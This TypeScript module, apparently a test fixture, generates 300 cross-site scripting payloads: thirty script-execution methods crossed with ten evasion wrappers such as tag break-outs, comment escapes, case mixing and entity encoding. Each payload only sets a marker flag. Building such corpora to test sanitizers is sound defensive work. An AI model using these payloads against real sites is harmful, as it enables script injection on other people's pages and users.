// Three hundred texts, each of which would set `ran` where a page took it for markup, an address, a style or a template:
// thirty ways of running a script, each in ten disguises.
const call = 'globalThis.ran=1';
const ways = [
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type="module">${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<img srcset="x" onerror=${call}>`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<body onload="${call}">`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}" autofocus onfocus="${call}">x</a>`,
  `[x](javascript:${call})`,
  `![x](x "onerror=${call}")`,
  `<input autofocus onfocus="${call}">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror="${call}">`,
  `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
  `<style>@import "javascript:${call}";</style>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
];

const disguises: readonly ((way: string) => string)[] = [
  (way) => way,
  (way) => `">${way}`,
  (way) => `'>${way}`,
  (way) => `</title></textarea></style>${way}`,
  (way) => `-->${way}<!--`,
  (way) => `]]>${way}`,
  (way) => way.replace(/script/g, 'ScRiPt').replace(/onerror/g, 'OnErRoR'),
  (way) => way.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (way) => `保险${way}条款`,
  (way) => `\\u003c${way.slice(1)}`,
];

export const payloads: readonly string[] = ways.flatMap((way) => disguises.map((disguise) => disguise(way)));
